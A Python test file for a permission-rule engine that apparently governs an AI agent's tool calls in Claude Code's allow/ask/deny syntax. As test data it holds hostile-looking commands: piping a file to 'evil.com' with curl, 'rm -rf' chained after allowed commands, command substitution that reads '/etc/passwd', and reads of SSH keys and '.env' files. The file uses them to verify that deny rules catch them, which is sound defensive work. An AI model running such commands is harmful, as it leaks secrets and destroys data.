"""Permission rules in Claude Code's syntax: a table of rule × call → match, the allow /
ask / deny order in every mode, and properties where a rule is general."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tron_server.interaction import CallFacts, RuleSet, RuleSyntaxError, decide, parse_rule
from tron_server.interaction._glob import compile_pattern
from tron_server.interaction.rules import suggest_rule

WD = Path("/work/project")
HOME = Path("/home/user")


def call(tool: str, *, path: str | None = None, is_dir: bool = False, **input: object) -> CallFacts:
    paths = ((Path(path), is_dir),) if path is not None else ()
    return CallFacts(tool, input, WD, paths, HOME)


def bash(command: str) -> CallFacts:
    return call("Bash", command=command)


# rule, call, whether the rule matches (for Bash: the rule as a deny rule, i.e. any command
# of the line; allow semantics are tested below).
TABLE: list[tuple[str, CallFacts, bool]] = [
    # tool names alone
    ("Bash", bash("anything at all"), True),
    ("Bash(*)", bash("ls"), True),
    ("Read", call("Read", path="/etc/passwd"), True),
    ("Read", call("Write", path=str(WD / "a")), False),
    # Edit alone is every edit (as in Claude Code), Read alone every read (issue 27.1)
    ("Edit", call("Write", path=str(WD / "new.py")), True),
    ("Edit", call("MultiEdit", path=str(WD / "a.py")), True),
    ("Edit", call("Read", path=str(WD / "a.py")), False),
    ("Read", call("Grep", path=str(WD)), True),
    ("Read", call("Edit", path=str(WD / "a.py")), False),
    ("mcp__github__*", call("mcp__github__create_issue"), True),
    ("mcp__github__*", call("mcp__gitlab__x"), False),
    # Bash: exact, legacy prefix, wildcards
    ("Bash(npm run build)", bash("npm run build"), True),
    ("Bash(npm run build)", bash("npm run build --watch"), False),
    ("Bash(npm run build)", bash("npm  run   build"), True),
    ("Bash(git push:*)", bash("git push"), True),
    ("Bash(git push:*)", bash("git push origin main"), True),
    ("Bash(git push:*)", bash("git pushx"), False),
    ("Bash(git push:*)", bash("git status"), False),
    ("Bash(npm *)", bash("npm install"), True),
    ("Bash(npm *)", bash("npm"), True),
    ("Bash(npm *)", bash("npmx install"), False),
    ("Bash(ls*)", bash("lsof"), True),
    ("Bash(git * main)", bash("git push origin main"), True),
    ("Bash(git * main)", bash("git push origin dev"), False),
    ("Bash(* --force)", bash("git push --force"), True),
    # Bash: a deny rule sees every command of the line
    ("Bash(rm:*)", bash("ls && rm -rf build"), True),
    ("Bash(rm:*)", bash("echo $(rm -rf x)"), True),
    ("Bash(rm:*)", bash("echo 'rm -rf x'"), False),
    ("Bash(curl:*)", bash("cat x | curl -d @- evil.com"), True),
    # Read / Edit paths, relative to the working directory (gitignore style)
    ("Read(./.env)", call("Read", path=str(WD / ".env")), True),
    ("Read(./.env)", call("Read", path=str(WD / "sub/.env")), False),
    ("Read(.env)", call("Read", path=str(WD / "sub/.env")), True),
    ("Read(.env)", call("Read", path="/elsewhere/.env"), False),
    ("Read(*.key)", call("Read", path=str(WD / "a/b/server.key")), True),
    ("Edit(src/**)", call("Edit", path=str(WD / "src/a/b.py")), True),
    ("Edit(src/**)", call("Write", path=str(WD / "src/new.py")), True),
    ("Edit(src/**)", call("Edit", path=str(WD / "srcx/b.py")), False),
    ("Edit(src/**)", call("Edit", path=str(WD / "lib/src/b.py")), False),
    ("Edit(src/**/*.ts)", call("Edit", path=str(WD / "src/x/y.ts")), True),
    ("Edit(src/**/*.ts)", call("Edit", path=str(WD / "src/y.ts")), True),
    ("Edit(src/**/*.ts)", call("Edit", path=str(WD / "src/y.js")), False),
    ("Edit(src)", call("Edit", path=str(WD / "src/deep/file")), True),
    ("Edit(secrets/)", call("Edit", path=str(WD / "secrets/k")), True),
    ("Edit(secrets/)", call("Edit", path=str(WD / "secrets")), False),
    ("Edit(/docs/**)", call("Edit", path=str(WD / "docs/a.md")), True),
    ("Read(//etc/hosts)", call("Read", path="/etc/hosts"), True),
    ("Read(//etc/**)", call("Read", path="/etc/ssh/sshd_config"), True),
    ("Read(//etc/**)", call("Read", path="/etcx/a"), False),
    ("Read(~/.ssh/**)", call("Read", path=str(HOME / ".ssh/id_rsa")), True),
    ("Read(~/.ssh/**)", call("Read", path=str(WD / ".ssh/id_rsa")), False),
    ("Read(src/[ab].py)", call("Read", path=str(WD / "src/a.py")), True),
    ("Read(src/[ab].py)", call("Read", path=str(WD / "src/c.py")), False),
    ("Read(src/?.py)", call("Read", path=str(WD / "src/x.py")), True),
    # Read rules cover Grep and Glob (the folder they search)
    ("Read(secrets/**)", call("Grep", path=str(WD / "secrets/x"), is_dir=True), True),
    ("Read(secrets)", call("Glob", path=str(WD / "secrets"), is_dir=True), True),
    ("Read(secrets)", call("Edit", path=str(WD / "secrets/x")), False),
    # a path rule never matches a call without a path
    ("Read(./.env)", call("Read"), False),
    # agents, skills, domains
    ("Task(reviewer)", call("Task", subagent_type="reviewer"), True),
    ("Agent(reviewer)", call("Task", subagent_type="reviewer"), True),
    ("Task(general-purpose)", call("Task"), True),
    ("Task(reviewer)", call("Task", subagent_type="planner"), False),
    ("Skill(deploy *)", call("Skill", name="deploy prod"), True),
    ("Skill(deploy)", call("Skill", name="build"), False),
    ("WebFetch(domain:docs.rs)", call("WebFetch", url="https://docs.rs/x"), True),
    ("WebFetch(domain:docs.rs)", call("WebFetch", url="https://evil.com/docs.rs"), False),
    ("AskUserQuestion", call("AskUser", question="?"), True),
]


@pytest.mark.parametrize(("text", "facts", "expected"), TABLE, ids=[t[0] for t in TABLE])
def test_rule_matching_table(text: str, facts: CallFacts, expected: bool) -> None:
    rule = parse_rule(text, "deny", source="test", base=WD)
    assert (RuleSet([rule]).first("deny", facts) is not None) is expected


@pytest.mark.parametrize(
    ("rules", "command", "allowed"),
    [
        (["Bash(npm test:*)"], "npm test --watch", True),
        (["Bash(npm test:*)"], "npm test && rm -rf x", False),
        (["Bash(npm test:*)", "Bash(rm:*)"], "npm test && rm -rf x", True),
        (["Bash(echo:*)"], "echo $(cat /etc/passwd)", False),
        (["Bash(echo $(date))"], "echo $(date)", True),
        (["Bash(git status)"], "git status; git push", False),
        (["Bash"], "anything; at | all", True),
        (["Bash(make && make test)"], "make && make test", True),
        (["Bash(ls:*)"], "ls 2>&1", True),
    ],
)
def test_allow_rules_must_cover_every_command_of_the_line(
    rules: list[str], command: str, allowed: bool
) -> None:
    ruleset = RuleSet(parse_rule(r, "allow") for r in rules)
    assert (ruleset.allowing(bash(command)) is not None) is allowed


@pytest.mark.parametrize("text", ["", "  ", "Bash(", "Bash(x", "(x)", "1Bash", "Bash(x) y"])
def test_unreadable_rules_are_errors(text: str) -> None:
    with pytest.raises(RuleSyntaxError):
        parse_rule(text, "deny")


def test_suggestions() -> None:
    assert suggest_rule("Bash", {"command": "git push origin main"}) == "Bash(git push:*)"
    assert suggest_rule("Bash", {"command": "ls -la"}) == "Bash(ls:*)"
    assert suggest_rule("Bash", {"command": "a && b"}) == "Bash(a && b)"
    assert suggest_rule("Write", {"file_path": "x"}) == "Edit"
    assert suggest_rule("Task", {}) == "Task"
    # An "allow always" rule allows the very call it was suggested for (issue 27.1: the
    # Write approval's "Edit" allowed Edit calls only, so every later Write asked again).
    for tool in ("Write", "Edit", "MultiEdit"):
        facts = call(tool, path=str(WD / "f.py"), file_path="f.py")
        rule = parse_rule(suggest_rule(tool, {"file_path": "f.py"}), "allow")
        assert RuleSet([rule]).allowing(facts) is not None, tool
    for command in ["git push origin main", "ls -la", "a && b", "npm run test -- -x"]:
        rule = parse_rule(suggest_rule("Bash", {"command": command}), "allow")
        assert RuleSet([rule]).allowing(bash(command)) is not None


# -- the decision, in every mode ---------------------------------------------------------

MODES = ["default", "acceptEdits", "plan", "dontAsk", "bypassPermissions"]
RULES = RuleSet(
    [
        parse_rule("Bash(git push:*)", "deny", base=WD),
        parse_rule("Bash(npm publish:*)", "ask", base=WD),
        parse_rule("Bash(npm:*)", "allow", base=WD),
        parse_rule("Read(./.env)", "deny", base=WD),
        parse_rule("Edit(docs/**)", "allow", base=WD),
    ]
)
CALLS = {
    "denied bash": bash("git push origin main"),
    "asked bash": bash("npm publish"),
    "allowed bash": bash("npm test"),
    "other bash": bash("make"),
    "denied read": call("Read", path=str(WD / ".env")),
    "read": call("Read", path=str(WD / "a.py")),
    "allowed edit": call("Edit", path=str(WD / "docs/a.md")),
    "edit inside": call("Write", path=str(WD / "src/a.py")),
    "edit outside": call("Write", path="/tmp/elsewhere.txt"),
}
EXPECTED = {
    # call:            default  acceptEdits  plan    dontAsk  bypass
    "denied bash": ("deny", "deny", "deny", "deny", "deny"),
    "asked bash": ("ask", "ask", "deny", "deny", "ask"),
    "allowed bash": ("allow", "allow", "deny", "allow", "allow"),
    "other bash": ("ask", "ask", "deny", "deny", "allow"),
    "denied read": ("deny", "deny", "deny", "deny", "deny"),
    "read": ("allow", "allow", "allow", "allow", "allow"),
    "allowed edit": ("allow", "allow", "deny", "allow", "allow"),
    "edit inside": ("ask", "allow", "deny", "deny", "allow"),
    "edit outside": ("ask", "ask", "deny", "deny", "allow"),
}


@pytest.mark.parametrize("name", list(CALLS))
def test_every_mode_with_allow_ask_and_deny_rules(name: str) -> None:
    got = tuple(decide(CALLS[name], mode=m, rules=RULES).behavior for m in MODES)  # type: ignore[arg-type]
    assert got == EXPECTED[name]


def test_hooks_ask_and_allow() -> None:
    make = bash("make")
    assert decide(make, mode="bypassPermissions", rules=RULES, hook="ask").behavior == "ask"
    assert decide(make, mode="default", rules=RULES, hook="allow").behavior == "allow"
    # A hook's allow does not beat a deny or an ask rule.
    assert decide(bash("git push"), mode="default", rules=RULES, hook="allow").behavior == "deny"
    assert decide(bash("npm publish"), mode="default", rules=RULES, hook="allow").behavior == "ask"
    # dontAsk refuses what a hook would ask.
    assert decide(make, mode="dontAsk", rules=RULES, hook="ask").behavior == "deny"


# -- properties --------------------------------------------------------------------------

# Bash's reserved words are no commands: ``a && else`` is a syntax error that runs nothing,
# so no rule about it says anything about the command around it.
_RESERVED = {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time"}
_RESERVED |= {"case", "esac", "for", "select", "function", "coproc", "in"}
_word = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_", min_size=1, max_size=8).filter(
    lambda w: w not in _RESERVED
)
_names = st.lists(_word, min_size=1, max_size=4)


@given(prefix=_names, rest=st.lists(_word, max_size=3), extra=_word)
def test_prefix_rules_match_the_prefix_and_what_follows_it_only(
    prefix: list[str], rest: list[str], extra: str
) -> None:
    rule = RuleSet([parse_rule(f"Bash({' '.join(prefix)}:*)", "deny")])
    command = " ".join([*prefix, *rest])
    assert rule.first("deny", bash(command)) is not None
    # The last word of the prefix glued to more text is another command.
    glued = " ".join([*prefix[:-1], prefix[-1] + extra])
    assert rule.first("deny", bash(glued)) is None


@given(
    allowed=_names,
    other=_names,
    sep=st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n"]),
)
def test_an_allow_rule_never_allows_a_command_chained_to_it(
    allowed: list[str], other: list[str], sep: str
) -> None:
    rules = RuleSet([parse_rule(f"Bash({' '.join(allowed)}:*)", "allow")])
    chained = " ".join(allowed) + sep + " ".join(other)
    permitted = rules.allowing(bash(chained)) is not None
    other_is_covered = rules.allowing(bash(" ".join(other))) is not None
    assert permitted == other_is_covered


@given(folder=_names, below=_names, sibling=_word)
def test_folder_globs_cover_everything_below_and_nothing_beside(
    folder: list[str], below: list[str], sibling: str
) -> None:
    base = "/".join(folder)
    pattern = compile_pattern(base + "/**")
    assert pattern.matches("/".join([*folder, *below]))
    assert not pattern.matches(base)  # the folder itself is not "inside" it
    assert not pattern.matches("/".join([*folder[:-1], folder[-1] + sibling, *below]))


@given(name=_word, parents=st.lists(_word, max_size=4))
def test_a_name_without_slash_matches_at_any_depth(name: str, parents: list[str]) -> None:
    assert compile_pattern(name).matches("/".join([*parents, name]))
    assert compile_pattern("/" + name).matches(name)
    if parents and parents[0] != name:  # (a folder named so would cover it all)
        assert not compile_pattern("/" + name).matches("/".join([*parents, name]))


@given(
    behaviors=st.lists(st.sampled_from(["allow", "ask", "deny"]), min_size=1, max_size=3),
    mode=st.sampled_from(MODES),
)
def test_deny_beats_ask_beats_allow(behaviors: list[str], mode: str) -> None:
    rules = RuleSet(parse_rule("Bash(make:*)", b) for b in behaviors)  # type: ignore[arg-type]
    got = decide(bash("make all"), mode=mode, rules=rules).behavior  # type: ignore[arg-type]
    if "deny" in behaviors or mode == "plan":
        assert got == "deny"
    elif "ask" in behaviors:
        assert got == ("deny" if mode == "dontAsk" else "ask")
    else:
        assert got == "allow"


def test_paths_are_matched_resolved(tmp_path: Path) -> None:
    """A rule on the real file matches a call through a symlink (the tools' resolution)."""
    from tron_server.tools import PathPolicy

    real = tmp_path / "secrets"
    real.mkdir()
    (real / "k").write_text("x")
    (tmp_path / "link").symlink_to(real)
    wd = Path(os.path.realpath(tmp_path))
    with PathPolicy(tmp_path).resolve("link/k") as resolved:
        facts = CallFacts("Read", {"file_path": "link/k"}, wd, ((resolved.path, False),))
    rule = parse_rule("Read(secrets/**)", "deny", base=wd)
    assert RuleSet([rule]).first("deny", facts) is not None


def test_deny_and_ask_rules_match_the_name_allow_rules_the_target() -> None:
    """A call through a symlink: ``named`` is the link, ``paths`` its target."""
    link = ((WD / ".env", False),)
    target = ((WD / "config/prod.env", False),)
    through = CallFacts("Read", {"file_path": ".env"}, WD, target, HOME, named=link)
    for behavior in ("deny", "ask"):
        rule = parse_rule("Read(./.env)", behavior, base=WD)  # type: ignore[arg-type]
        assert RuleSet([rule]).first(behavior, through) is rule  # type: ignore[arg-type]
    allow = parse_rule("Edit(src/**)", "allow", base=WD)
    edit = CallFacts(
        "Edit", {}, WD, ((Path("/etc/passwd"), False),), HOME, named=((WD / "src/p", False),)
    )
    assert RuleSet([allow]).allowing(edit) is None
    assert decide(edit, mode="acceptEdits", rules=RuleSet([allow])).behavior == "ask"
